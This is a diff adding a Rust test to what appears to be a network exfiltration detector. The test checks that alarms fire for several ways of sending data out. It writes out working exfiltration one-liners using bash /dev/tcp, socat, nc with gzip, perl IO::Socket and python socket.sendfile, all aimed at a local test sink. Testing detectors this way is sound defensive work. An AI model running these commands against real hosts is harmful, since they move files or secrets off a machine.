@@ -110,6 +110,46 @@ fn a_hundred_megabytes_over_one_socket_while_it_is_open() {
 }
 
 #[test]
+fn every_way_out() {
+    need!("openssl", "nc", "socat", "perl", "bash", "gzip", "base64");
+    let sink = Sink::open();
+    let port = sink.port;
+    let secret = encrypt(2 << 20);
+    let ways = [
+        ("cat", "encrypted", format!("{secret} >f; bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}; cat f >&3'")),
+        ("socat", "encrypted", format!("{secret} | socat -u STDIN TCP:127.0.0.1:{port}")),
+        ("nc", "compressed", format!("{secret} | gzip -1 | nc -N 127.0.0.1 {port}")),
+        ("nc", "structured", format!("head -c 2000000 /dev/urandom | base64 | nc -N 127.0.0.1 {port}")),
+        (
+            "perl",
+            "encrypted",
+            format!(
+                "{secret} >f; perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(PeerAddr => \"127.0.0.1:{port}\") or die; \
+                 open F, \"f\"; while (read F, $b, 65536) {{ print $s $b }}'"
+            ),
+        ),
+        (
+            "python",
+            "encrypted",
+            format!(
+                "{secret} >f; {} -c \"import socket; s = socket.create_connection(('127.0.0.1', {port})); s.sendfile(open('f', 'rb'))\"",
+                peers::PYTHON
+            ),
+        ),
+    ];
+    for (program, class, script) in ways {
+        let run = Observed::script(&script).go().well();
+        let alarm = fired(&run, program);
+        check!(
+            run,
+            alarm["evidence"]["class"] == class
+                || class == "encrypted" && alarm["evidence"]["class"].is_null(),
+            "{alarm}"
+        );
+    }
+}
+
+#[test]
 fn a_process_that_is_only_counted_while_its_connection_is_open() {
     let daemon = Daemon::watching("baseline_days = 0");
     let sink = Sink::open();
